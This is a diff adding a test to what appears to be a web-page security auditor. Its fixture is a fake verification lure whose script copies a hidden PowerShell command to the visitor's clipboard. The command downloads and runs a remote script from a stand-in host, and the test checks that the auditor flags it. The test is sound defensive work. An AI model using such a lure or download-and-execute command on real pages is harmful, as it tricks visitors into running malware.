@@ -472,3 +472,14 @@ def test_sign1_guarding_its_load_with_an_if_block_is_found(audit_listed: AuditLi
         "head.appendChild(s);}})();</script>"))
     report = audit_listed(page, URL)
     assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_command_joined_from_pieces_is_not_the_piece_the_page_shows(
+        audit_listed: AuditListed) -> None:
+    """The lure's text names PowerShell; the copied command is more than its first piece."""
+    page = wp_page(body_top=(
+        "<p>Open Windows powershell and paste the verification code.</p><script>var c="
+        "'powershell'+' -w hidden -c \"iwr https://captcha-verify-cdn.test/v.ps1|iex\"';"
+        "navigator.clipboard.writeText(c);</script>"))
+    report = audit_listed(page, URL)
+    assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]
